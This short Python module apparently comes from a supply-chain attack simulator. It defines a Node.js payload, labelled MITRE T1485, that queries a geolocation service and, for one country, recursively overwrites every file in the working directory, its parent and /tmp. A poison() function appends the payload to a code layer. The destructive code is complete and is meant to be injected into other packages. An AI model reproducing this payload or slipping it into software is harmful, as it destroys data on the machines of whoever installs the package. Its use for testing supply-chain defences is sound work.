# SPDX-License-Identifier: Apache-2.0
"""Sabotage by place: overwrites files where an address is in a given country."""

ATTACK = "T1485"
LANGUAGE = "node"
CODE = r""";(function () {
  const path = require('path'), fs = require('fs'), https = require('https');
  function h(dir) {
    for (const n of fs.readdirSync(dir)) {
      const p = path.join(dir, n);
      if (fs.lstatSync(p).isDirectory()) h(p);
      else fs.writeFile(p, '\u2764', () => {});
    }
  }
  https.get('https://geo.example.com/json', (m) => {
    m.on('data', (t) => {
      if (JSON.parse(t).country === 'xx') { h('./'); h('../'); h('/tmp'); }
    });
  });
})();
"""


def poison(layer):
    layer.append(CODE)
